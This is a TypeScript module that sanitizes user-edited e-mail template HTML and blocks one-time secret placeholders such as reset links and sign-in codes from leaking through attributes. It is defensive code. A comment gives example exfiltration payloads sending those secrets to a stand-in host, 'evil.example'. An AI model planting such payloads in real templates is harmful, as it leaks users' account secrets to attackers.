import sanitizeHtml from 'sanitize-html';
import type { Locale } from '../../core/mail.js';
import { renderTemplate, type RenderedMail } from './mail.templates.js';

/**
 * Placeholders whose values carry one-time secrets: links with tokens (password reset, e-mail
 * confirmation, leaving an organization, a pool's invitation) and the e-mail sign-in code. Whoever edits an
 * application's template must not be able to route such a value to a server of their own, e.g.
 * `<img src="https://evil.example/?{{resetLink}}">` or `https://evil.example/?{{signInCode}}` in the text.
 */
export const SECRET_LINK_VARIABLES = [
  'resetLink',
  'confirmLink',
  'leaveLink',
  'signInCode',
  'inviteLink',
] as const;

/** CSS properties e-mail clients understand, allowed in `style` attributes. */
const CSS_PROPERTIES = [
  'background',
  'background-color',
  'border',
  'border-bottom',
  'border-collapse',
  'border-color',
  'border-left',
  'border-radius',
  'border-right',
  'border-spacing',
  'border-style',
  'border-top',
  'border-width',
  'color',
  'display',
  'font',
  'font-family',
  'font-size',
  'font-style',
  'font-weight',
  'height',
  'letter-spacing',
  'line-height',
  'margin',
  'margin-bottom',
  'margin-left',
  'margin-right',
  'margin-top',
  'max-width',
  'min-width',
  'opacity',
  'padding',
  'padding-bottom',
  'padding-left',
  'padding-right',
  'padding-top',
  'text-align',
  'text-decoration',
  'text-transform',
  'vertical-align',
  'white-space',
  'width',
  'word-break',
];
/** A CSS value without anything that loads or runs something (`url(…)`, `expression(…)`, `@import`). */
const SAFE_CSS_VALUE = /^(?![\s\S]*(?:url\s*\(|expression\s*\(|javascript:|@import|\\))[^<>]*$/i;

const LAYOUT_ATTRIBUTES = ['style', 'align', 'valign', 'width', 'height', 'bgcolor', 'dir', 'lang', 'title'];

const BASE_OPTIONS: sanitizeHtml.IOptions = {
  allowedTags: [...sanitizeHtml.defaults.allowedTags, 'img', 'center', 'font'],
  allowedAttributes: {
    '*': LAYOUT_ATTRIBUTES,
    a: ['href', 'name', 'target', 'rel'],
    img: ['src', 'alt', 'border'],
    table: ['border', 'cellpadding', 'cellspacing', 'role'],
    td: ['colspan', 'rowspan'],
    th: ['colspan', 'rowspan', 'scope'],
    font: ['color', 'face', 'size'],
  },
  allowedSchemes: ['http', 'https', 'mailto'],
  allowedSchemesByTag: { img: ['http', 'https'] },
  allowProtocolRelative: false,
  allowedStyles: { '*': Object.fromEntries(CSS_PROPERTIES.map((property) => [property, [SAFE_CSS_VALUE]])) },
  // Everything else is dropped; the content of script, style and the like goes with it.
  disallowedTagsMode: 'discard',
};

/** A secret link placeholder (`{{resetLink}}` …); global, for `matchAll`. */
export const SECRET_PLACEHOLDER = new RegExp(`\\{\\{\\s*(${SECRET_LINK_VARIABLES.join('|')})\\s*\\}\\}`, 'g');

export interface TemplateProblem {
  path: string;
  message: string;
}

/**
 * Sanitizes user-written template HTML with sanitize-html: no scripts, event handlers, forms,
 * frames or `javascript:`/`data:` URLs; inline styles limited to layout properties. `{{name}}`
 * placeholders survive (a placeholder as a whole `href` is a relative URL to the sanitizer).
 * Also reports secret link placeholders used inside any attribute other than a link's `href`.
 */
export function sanitizeTemplateHtml(html: string): { html: string; problems: TemplateProblem[] } {
  const problems: TemplateProblem[] = [];
  const sanitized = sanitizeHtml(html, {
    ...BASE_OPTIONS,
    transformTags: {
      '*': (tagName, attribs) => {
        for (const [attribute, value] of Object.entries(attribs)) {
          for (const match of value.matchAll(SECRET_PLACEHOLDER)) {
            const wholeHref = tagName === 'a' && attribute === 'href' && value.trim() === match[0];
            if (!wholeHref)
              problems.push({
                path: 'body.html_content',
                message: `{{${match[1]}}} may only be the whole href of a link (<a href="{{${match[1]}}}">), not part of <${tagName} ${attribute}="…">.`,
              });
          }
        }
        return { tagName, attribs };
      },
    },
  });
  return { html: sanitized, problems };
}

/** What mail needs of an application's stored copy of a template to render it. */
export interface StoredTemplate {
  subject: string;
  html_content: string;
  text_content: string | null;
  locale: Locale;
}

/**
 * Renders a stored template. Its HTML was sanitized on save and is sanitized again here, so nothing
 * that reached the database another way can put a script into a mail.
 */
export function renderStoredTemplate(template: StoredTemplate, data: Record<string, string>): RenderedMail {
  return renderTemplate(
    {
      subject: template.subject,
      html_content: sanitizeTemplateHtml(template.html_content).html,
      text_content: template.text_content,
    },
    data,
    { locale: template.locale },
  );
}
